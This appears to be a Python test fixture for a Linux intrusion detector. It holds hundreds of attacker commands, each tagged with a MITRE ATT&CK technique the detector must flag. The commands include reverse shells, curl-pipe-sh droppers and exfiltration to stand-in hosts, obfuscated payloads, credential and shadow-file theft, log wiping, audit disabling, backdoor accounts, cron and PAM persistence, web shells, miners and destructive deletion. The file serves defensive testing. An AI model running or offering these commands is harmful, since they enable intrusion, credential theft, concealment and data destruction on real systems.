"""What intruders run, one line each: the ATT&CK technique expected, then the command.

One block an actor (tests/sections/actors.py), one line a command; ``$ `` begins what ``sh -c`` was given.
Each must raise a finding of Medium or above that names the technique.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

from tests.sections.actors import JOBS, NEWCOMER, ROOT, Actor


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_DROPPER = _b64("curl -s http://203.0.113.9/k.sh -o /dev/shm/.k; sh /dev/shm/.k")
_REVERSE = _b64("bash -i >& /dev/tcp/203.0.113.9/4433 0>&1")
_TWICE = _b64(f"echo {_REVERSE} | base64 -d | bash")
_PYTHON = _b64("import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',9))\n"
               "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')")  # fmt: skip
_HEX = b"wget -q http://203.0.113.9/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x".hex()
_ESCAPED = "".join(f"\\x{sign:02x}" for sign in b"curl http://203.0.113.9/a|sh")

_USER = f"""
T1059.004 $ bash -i >& /dev/tcp/203.0.113.9/4433 0>&1
T1059.004 bash -c 'bash -i >& /dev/tcp/203.0.113.9/4433 0>&1'
T1059.004 $ 0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196
T1059.004 $ exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done
T1059.004 $ sh -i 5<> /dev/udp/203.0.113.9/53 0<&5 1>&5 2>&5
T1059.004 nc -e /bin/sh 203.0.113.9 4433
T1059.004 nc 203.0.113.9 4433 -e /bin/bash
T1059.004 ncat --ssl 203.0.113.9 4433 --exec /bin/bash
T1059.004 busybox nc 203.0.113.9 4433 -e sh
T1059.004 timeout 900 nc -lvnp 4433 -c /bin/sh
T1059.004 $ rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 203.0.113.9 4433 > /tmp/p
T1059.004 $ mknod /tmp/bp p && telnet 203.0.113.9 80 0</tmp/bp | /bin/bash 1>/tmp/bp
T1059.004 $ mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s
T1059.004 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4433
T1059.004 socat TCP:203.0.113.9:4433 EXEC:/bin/sh
T1059 python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'
T1059 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4433,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");'
T1059 ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4433).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
T1059.004 php -r '$s=fsockopen("203.0.113.9",4433);exec("/bin/sh -i <&3 >&3 2>&3");'
T1059 node -e 'require("net").connect(4433,"203.0.113.9",function(){{var s=require("child_process").spawn("/bin/sh");this.pipe(s.stdin)}})'
T1059 lua -e 'local s=require("socket");local t=assert(s.tcp());t:connect("203.0.113.9",4433);os.execute("/bin/sh")'
T1059 awk 'BEGIN {{s = "/inet/tcp/0/203.0.113.9/4433"; while (1) {{ s |& getline c; system(c) }}}}'
T1059 python3 -c 'import pty; pty.spawn("/bin/bash")'
T1059 script -qc /bin/bash /dev/null
T1105 $ curl -s http://203.0.113.9/i.sh | bash
T1105 $ wget -qO- 203.0.113.9/i.sh | sh
T1105 $ curl -fsSL https://files.bad.example/i.sh | sudo bash
T1105 $ c"u"rl -s http://files.bad.example/i.sh | b'a'sh
T1105 $ cu\\rl -s http://files.bad.example/i.sh|ba\\sh
T1105 $ x=cu; y=rl; $x$y -s http://files.bad.example/i.sh | sh
T1105 $ /usr/bin/curl${{IFS}}-s${{IFS}}http://203.0.113.9/i.sh|/bin/sh
T1105 env A=1 nohup setsid sh -c 'curl -s http://203.0.113.9/i.sh | sh'
T1105 sh -c 'sh -c "wget -q -O - http://203.0.113.9/i.sh | sh"'
T1105 bash -c 'bash <(curl -s http://203.0.113.9/i.sh)'
T1105 $ eval "$(wget -qO- http://203.0.113.9/i.sh)"
T1105 $ . <(curl -s http://files.bad.example/env)
T1105 $ curl -s http://203.0.113.9/p.py | python3
T1105 $ curl -s http://203.0.113.9/p.gz | gunzip | sh
T1105 python3 -c 'import os; os.system("curl -s http://203.0.113.9/i.sh | sh")'
T1105 python3 -c 'import urllib.request as u;exec(u.urlopen("http://203.0.113.9/p.py").read())'
T1105 curl -s -o /dev/shm/.x http://files.bad.example/x
T1105 wget -q http://files.bad.example/x -O /tmp/.font-unix/x
T1105 curl -O http://203.0.113.9/x
T1105 wget 203.0.113.9:8000/agent
T1027 curl http://0xcb007109/x -o x
T1027 wget http://3405803785/x
T1090.003 curl -s http://abcdefghijklmnop.onion/x
T1222.002 chmod +x /dev/shm/kworker
T1222.002 chmod 777 /var/tmp/.cache/.d
T1564.001 /dev/shm/kworker -d
T1564.001 /tmp/.ICE-unix/.x/sshd -q
T1564.001 nohup /var/tmp/.a/run
T1564.001 bash /dev/shm/.i.sh
T1564.001 python3 /var/tmp/.x/a.py
T1564.001 perl /tmp/.bot.pl 203.0.113.9
T1564.001 /home/noor/.gnome2.d/.sshd -c x
T1036.004 $ exec -a '[kworker/0:1]' /tmp/x
T1027.010 $ /b?n/c?t /etc/pa??wd
T1140 $ echo {_DROPPER} | base64 -d | bash
T1105 $ echo {_DROPPER} | base64 -d | bash
T1059.004 $ echo {_TWICE} | base64 --decode | sh
T1059.004 bash -c '{{echo,{_REVERSE}}}|{{base64,-d}}|{{bash,-i}}'
T1140 bash -c 'eval "$(echo {_REVERSE} | base64 -d)"'
T1059 python3 -c 'import base64;exec(base64.b64decode("{_PYTHON}"))'
T1140 perl -e 'use MIME::Base64;eval(decode_base64("{_b64("system(qq(id))")}"))'
T1140 php -r 'eval(base64_decode("{_b64("system($_GET[0]);")}"));'
T1105 $ echo {_HEX} | xxd -r -p | sh
T1105 $ printf '{_ESCAPED}' | sh
T1105 $ echo -e '{_ESCAPED}' | bash
T1105 $ $'\\x63\\x75\\x72\\x6c' http://203.0.113.9/x | sh
T1140 $ openssl enc -aes-256-cbc -d -in /tmp/a -k x | sh
T1105 $ echo 'hs | a/9.311.0.302//:ptth lruc' | rev | sh
T1496 ./xmrig -o stratum+tcp://pool.bad.example:3333 -u wallet -p x --donate-level 1
T1496 /usr/bin/kthreadd --algo rx/0 --url pool.supportxmr.com:443
T1496 minerd -a cryptonight -o stratum+tcp://203.0.113.9:80
T1572 ssh -fN -R 2222:localhost:22 tunnel@203.0.113.9
T1572 ssh -D 1080 -N tunnel@203.0.113.9
T1572 ssh -w 0:0 root@203.0.113.9
T1572 autossh -M 0 -NR 8022:127.0.0.1:22 tunnel@203.0.113.9
T1572 ./chisel client 203.0.113.9:8080 R:socks
T1572 ./svc client 203.0.113.9:8080 R:1080:socks
T1572 frpc -c frpc.ini
T1572 ngrok tcp 22
T1572 cloudflared tunnel --url http://localhost:22
T1572 gs-netcat -s secret -l -i
T1090.001 socat TCP-LISTEN:8443,fork TCP:10.20.0.3:22
T1082 ./linpeas.sh -a
T1057 ./pspy64
T1046 masscan 10.0.0.0/8 -p22
T1110 hydra -l root -P words.txt ssh://10.20.0.3
T1070.003 $ unset HISTFILE
T1070.003 $ export HISTFILE=/dev/null
T1070.003 $ HISTSIZE=0; id
T1070.003 $ set +o history
T1070.003 $ history -c
T1070.003 env HISTFILE=/dev/null bash
T1070.003 rm -f /home/noor/.bash_history
T1070.003 ln -sf /dev/null /home/noor/.bash_history
T1070.003 $ cat /dev/null > ~/.bash_history
T1070.003 truncate -s0 .zsh_history
T1574.006 env LD_PRELOAD=/tmp/l.so ls
T1548.003 sudo find . -exec /bin/sh ;
T1548.003 sudo vim -c ':!/bin/sh'
T1548.003 sudo awk 'BEGIN {{system("/bin/sh")}}'
T1548.003 sudo python3 -c 'import os; os.system("/bin/bash")'
T1548.003 sudo perl -e 'exec "/bin/sh";'
T1548.003 sudo tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh
T1548.003 python3 -c 'import os; os.setuid(0); os.execl("/bin/sh", "sh")'
T1548.001 bash -p
T1068 sudo -u#-1 /bin/bash
T1068 env GCONV_PATH=. CHARSET=PWNKIT pkexec
T1611 docker run -it -v /:/mnt alpine chroot /mnt sh
T1611 unshare -rm sh
T1611 curl -s --unix-socket /var/run/docker.sock http://x/containers/create -d x
T1083 find / -perm -4000 -type f
T1083 find / -perm -u=s -type f
T1083 getcap -r /
T1552.004 cat /home/ana/.ssh/id_rsa
T1552.004 cp /home/ana/.ssh/id_ed25519 /tmp/k
T1552.001 cat /home/ana/.aws/credentials
T1552.001 cat /home/ana/.kube/config
T1552.001 base64 /home/dev/.git-credentials
T1552.005 curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web
T1552.005 curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=x'
T1003.007 $ cat /proc/*/environ
T1003.007 strings /proc/812/environ
T1552.001 grep -ri password /home
T1552.003 grep -i passw /home/ana/.bash_history
T1552.001 grep -rn 'BEGIN RSA PRIVATE KEY' /
T1552.001 find / -name id_rsa
T1552.001 find /home -name '*.kdbx'
T1567 curl -T notes.tgz https://transfer.sh/notes.tgz
T1567 curl -F file=@dump.sql https://file.io
T1048 curl -s -X POST --data-binary @/etc/passwd http://203.0.113.9/u
T1048 curl -T dump.tgz http://203.0.113.9:8000/
T1048 wget --post-file=/etc/passwd http://203.0.113.9/
T1048 $ tar cz /srv/app | nc 203.0.113.9 4433
T1048 $ mysqldump shop | curl -T - https://files.bad.example/d
T1048.003 $ nc 203.0.113.9 4433 < dump.tgz
T1048.003 $ cat dump.tgz > /dev/tcp/203.0.113.9/4433
T1560.001 tar czf /dev/shm/.d.tgz /srv/app
T1560.001 zip -r /tmp/.d.zip /srv/app
T1053.003 $ (crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/i.sh | sh') | crontab -
T1053.003 $ echo '* * * * * /dev/shm/.k' | crontab -
T1546.004 $ echo 'nohup /tmp/.x &' >> ~/.bashrc
T1546.004 $ echo "alias sudo='/tmp/.s'" >> /home/noor/.bash_aliases /home/noor/.profile
"""

_ROOT = """
T1003.008 cat /etc/shadow
T1003.008 cp /etc/shadow /tmp/s
T1003.008 $ cat /etc/sh?d*w
T1003.008 $ ca''t /etc/sha""dow
T1003.008 $ /bin/c\\at${IFS}/etc/shadow
T1003.008 unshadow /etc/passwd /etc/shadow
T1003.008 tail -n 5 /etc/shadow-
T1003.008 $ base64 /etc/shadow | curl -d @- http://203.0.113.9/
T1003.008 dd if=/etc/shadow of=/tmp/x
T1552.004 tar czf /root/k.tgz /home/ana/.ssh
T1056.001 strace -f -p 812 -e trace=read,write -o /tmp/sshd.log sshd
T1070.002 rm -f /var/log/auth.log
T1070.002 rm -rf /var/log/*
T1070.002 shred -u /var/log/wtmp
T1070.002 truncate -s 0 /var/log/btmp
T1070.002 $ echo > /var/log/secure
T1070.002 $ cat /dev/null > /var/log/wtmp
T1070.002 $ : > /var/log/lastlog
T1070.002 ln -sf /dev/null /var/log/auth.log
T1070.002 sed -i /203.0.113.9/d /var/log/auth.log
T1070.002 rm -f /var/log/syslog
T1070.002 journalctl --rotate --vacuum-time=1s
T1070.002 utmpdump -r -o /var/log/wtmp /tmp/w
T1070.006 touch -r /bin/ls /usr/bin/sshdd
T1070.006 touch -t 202001010101 /etc/cron.d/x
T1222.002 chattr +i /root/.ssh/authorized_keys
T1222.002 chattr +ia /etc/ld.so.preload
T1562.012 auditctl -e 0
T1562.012 auditctl -D
T1562.012 systemctl stop auditd
T1562.012 service auditd stop
T1562.012 systemctl disable --now rsyslog
T1562.012 systemctl mask systemd-journald.socket
T1562.001 pkill -9 auditd
T1562.001 $ kill -9 $(pidof rsyslogd)
T1562.001 systemctl stop mdatp.service
T1562.001 mdatp config real-time-protection --value disabled
T1562.001 apt-get purge -y auditd
T1562.012 rm -f /etc/audit/rules.d/audit.rules
T1562.004 ufw disable
T1562.004 iptables -F
T1562.004 setenforce 0
T1562.004 systemctl stop firewalld
T1564 mount --bind /tmp/empty /proc/4242
T1053.003 $ echo '*/5 * * * * root wget -qO- http://203.0.113.9/x | sh' > /etc/cron.d/x
T1053.003 $ echo '@reboot /tmp/.x' >> /var/spool/cron/crontabs/root
T1053.003 cp /tmp/job /etc/cron.d/job
T1543.002 $ printf '[Service]\\nExecStart=/dev/shm/.k\\n' > /etc/systemd/system/dbus-x.service
T1543.002 cp /tmp/x.service /etc/systemd/system/x.service
T1543.002 systemctl enable --now /tmp/x.service
T1037.004 $ echo 'curl -s http://203.0.113.9/x | sh' >> /etc/rc.local
T1037.004 cp /tmp/x /etc/init.d/x
T1037.004 $ echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > /etc/update-motd.d/01-x
T1098.004 $ echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys
T1098.004 tee -a /root/.ssh/authorized_keys
T1098.004 $ echo 'ssh-rsa AAAA x' > /var/www/.ssh/authorized_keys
T1574.006 $ echo /lib/libx.so > /etc/ld.so.preload
T1574.006 tee /etc/ld.so.preload
T1136.001 useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor
T1136.001 usermod -o -u 0 games
T1136.001 $ echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd
T1222.002 chmod 666 /etc/shadow
T1222.002 chmod o+w /etc/passwd
T1098 usermod -s /bin/bash www-data
T1098 passwd -d games
T1548.001 chmod u+s /bin/bash
T1548.001 chmod 4755 /tmp/sh
T1548.001 chmod 6777 /home/noor/x
T1548.001 install -m 4755 /bin/bash /var/tmp/.b
T1548.001 setcap cap_setuid+ep /usr/bin/python3.11
T1036.003 cp /bin/bash /tmp/rootbash
T1548.003 $ echo 'noor ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
T1548.003 $ echo 'www-data ALL=(ALL:ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/www
T1547.006 insmod /tmp/rk.ko
T1547.006 insmod ./diamorphine.ko
T1556.003 $ echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd
T1556.003 cp /root/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
T1556.003 sed -i '1i auth optional pam_exec.so quiet expose_authtok /tmp/l' /etc/pam.d/common-auth
T1611 nsenter -t 1 -m -u -i -n sh
T1611 $ echo /tmp/x > /sys/fs/cgroup/rdma/release_agent
T1611 $ echo '|/tmp/x' > /proc/sys/kernel/core_pattern
T1505.003 $ echo '<?php system($_GET["c"]); ?>' > /var/www/html/i.php
T1505.003 $ echo PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+ | base64 -d > /var/www/html/wp-content/x.php
T1505.003 wget -q -O /var/www/html/up.php https://files.bad.example/up.txt
T1059 /tmp/agent -d
T1486 find /srv -type f -exec openssl enc -aes-256-cbc -k x -in {} -out {}.enc ;
T1485 rm -rf --no-preserve-root /
T1490 rm -rf /srv/backups
"""

_JOB = """
T1564.001 $ pgrep -f .sysd || /dev/shm/.sysd -q
T1105 $ curl -fsSL http://203.0.113.9/c.sh | sh
T1059.004 $ /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/8080 0>&1'
T1053.003 $ echo '* * * * * root /tmp/.a' > /etc/cron.d/a
"""

_MISSED_USER = r"""
T1059 perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
T1059 websocat -E --exec-args tcp:198.51.100.7:443 exec:/bin/bash
T1059 tclsh -c 'set s [socket 198.51.100.7 4242]; gets $s c; catch {eval "exec $c"}'
T1059.004 $ zmodload zsh/net/tcp && ztcp 198.51.100.7 4242 && zsh >&$REPLY 0>&$REPLY
T1059 perl -e 'use LWP::Simple; eval get("http://198.51.100.23/irc.pl")'
T1620 python3 -c 'import ctypes,os;f=ctypes.CDLL(None).syscall(319,b"x",1);os.execve("/proc/self/fd/%d"%f,["x"],{})'
T1059 python3 /var/tmp/.cache/rev.py
T1059 /lib64/ld-linux-x86-64.so.2 /tmp/payload
T1027 $ printf "\x69\x64" | sh
T1555.003 sqlite3 '/home/noor/.config/google-chrome/Default/Login Data' 'select * from logins'
T1558.005 find / -name 'krb5cc_*'
T1110.002 hashcat -m 1800 h.txt rockyou.txt
T1552.001 trufflehog filesystem / --json
T1098.004 $ echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDK x" >> ~/.ssh/authorized_keys
T1546 cp /tmp/h /srv/git/repo.git/hooks/post-receive
T1547.013 $ printf "[Desktop Entry]\nExec=/tmp/.x\n" > ~/.config/autostart/upd.desktop
T1543.002 $ cp /tmp/x.service ~/.config/systemd/user/
T1087.001 bash linpeas.sh -a
T1068 perl linux-exploit-suggester-2.pl
T1018 $ for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done
T1046 $ for p in 22 80 443 3306; do (echo > /dev/tcp/10.0.0.5/$p) && echo open; done
T1046 nc -zvn 10.0.0.5 1-1024
T1018 enum4linux -a 10.0.0.20
T1572 sshpass -p toor ssh -o StrictHostKeyChecking=no -R 4444:127.0.0.1:22 root@198.51.100.7
T1090 proxychains4 nmap -sT 10.1.0.0/24
T1048 scp /tmp/all.tar.gz root@198.51.100.7:/root/
T1048 aws s3 cp /tmp/l.tgz s3://x --endpoint-url http://198.51.100.7:9000
T1021.004 ssh -i /tmp/k -o UserKnownHostsFile=/dev/null root@10.0.0.9
T1210 redis-cli -h 10.0.0.9 config set dir /var/spool/cron
T1563.001 env SSH_AUTH_SOCK=/tmp/ssh-abc/agent.99 ssh root@10.0.0.4
T1021.004 ssh root@10.0.0.4 'curl http://198.51.100.23/x|sh'
"""

_MISSED_ROOT = r"""
T1070.002 $ > /var/log/wtmp
T1070.002 dd if=/dev/zero of=/var/log/syslog bs=1M count=1
T1070.002 find /var/log -type f -exec shred -u {} ;
T1070.002 $ for i in wtmp btmp lastlog secure; do cat /dev/null > /var/log/$i; done
T1070.002 mv /tmp/a /var/log/nginx/access.log
T1070.002 python3 -c "open('/var/log/auth.log','w').close()"
T1562.001 /bin/sh /usr/sbin/service auditd stop
T1562.001 /bin/sh /usr/local/qcloud/YunJing/uninst.sh
T1562.012 sed -i /execve/d /etc/audit/rules.d/audit.rules
T1562.003 sed -i 's/HISTSIZE=.*/HISTSIZE=0/' /root/.bashrc
T1003.007 gcore -o /tmp/core 1123
T1003.008 awk -F: '{print $1,$2}' /etc/shadow
T1555 tdbdump /var/lib/samba/private/secrets.tdb
T1053.003 $ echo "@reboot root /usr/bin/.sshd" > /etc/cron.d/0hourly
T1053.002 at -f /tmp/x.sh now + 1 minute
T1053.006 systemd-run --on-active=60 /bin/bash /tmp/x.sh
T1546.004 cp /tmp/z.sh /etc/profile.d/z.sh
T1546 $ echo 'APT::Update::Pre-Invoke {"/tmp/x";};' > /etc/apt/apt.conf.d/99x
T1547.006 cp r.ko /lib/modules/5.10.0/kernel/drivers/net/
T1098 $ echo "root:Passw0rd!" | chpasswd
T1098 usermod -aG sudo www-data
T1554 cp /tmp/sshd /usr/sbin/sshd
T1554 mv /usr/bin/ps /usr/bin/ps.original
T1505.003 cp /tmp/shell.jsp /opt/tomcat/webapps/ROOT/x.jsp
T1090 iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 198.51.100.7:443
T1496.001 wrmsr -a 0x1a4 0xf
T1496.001 docker run -d --restart=always metal3d/xmrig -o pool:3333
T1489 esxcli vm process kill --type=force --world-id=12345
T1529 $ echo c > /proc/sysrq-trigger
T1611 debugfs -R 'cat /etc/shadow' /dev/sda1
T1552.007 curl -sk -H 'Authorization: Bearer x' https://10.96.0.1/api/v1/secrets
T1027 $ echo 6964 | xxd -p -r | bash
T1136.001 useradd -ou 0 -g 0 backdoor
T1556.003 cp /tmp/pam_unix.so /usr/lib64/security/
T1548.003 nmap --interactive
"""
"""Lines of a second set of 391, written before the rules were read, that its first pass missed."""

_THIRD_USER = r"""
T1059 groovy -e 'String h="203.0.113.9";int p=80;Process q=new ProcessBuilder("sh").redirectErrorStream(true).start();Socket s=new Socket(h,p)'
T1564.001 '/tmp/ /a'
T1505.003 /var/www/html/uploads/.thumbs/apache2 -c cfg
T1505.003 /srv/www/shop/media/2026/upd -d
T1027 bash -c "$(echo 'fu -v' | tr 'a-z' 'n-za-m')"
T1027 bash -c "$(rev <<< 'hs | x/05.311.0.302//:ptth lruc')"
T1027 $ tail -n +12 /tmp/.inst | gunzip -c | sh
T1105 ftpget -u a -p a 203.0.113.50 bot.arm bot.arm
T1140 uudecode -o /tmp/.q /tmp/q.uu
T1140 $ base64 -d /tmp/p.b64 > /dev/shm/p
"""

_THIRD_ROOT = r"""
T1562.004 iptables -I OUTPUT -p udp --dport 514 -j DROP
T1562.004 nft add rule inet filter output tcp dport 6514 drop
T1037.004 $ sed -i "/^exit 0/i /usr/bin/.sd &" /etc/rc.local
T1037.004 perl -pi -e 's#^exit 0#/tmp/.u &#' /etc/rc.local
T1567.002 rclone copy /srv/share mega:bk --transfers 16
T1567.002 rclone sync /home gd:x --config /tmp/.rc.conf
"""
"""Of a third set, of 171: what its first pass missed, and kin."""

BLOCKS: tuple[tuple[Actor, str], ...] = (
    (NEWCOMER, _USER), (ROOT, _ROOT), (JOBS, _JOB), (NEWCOMER, _MISSED_USER), (ROOT, _MISSED_ROOT),
    (NEWCOMER, _THIRD_USER), (ROOT, _THIRD_ROOT),
)  # fmt: skip


def cases() -> Iterator[tuple[Actor, str, str]]:
    """Yield actor, technique, line."""
    for actor, text in BLOCKS:
        for line in filter(None, (line.strip() for line in text.splitlines())):
            technique, _, command = line.partition(" ")
            yield actor, technique, command
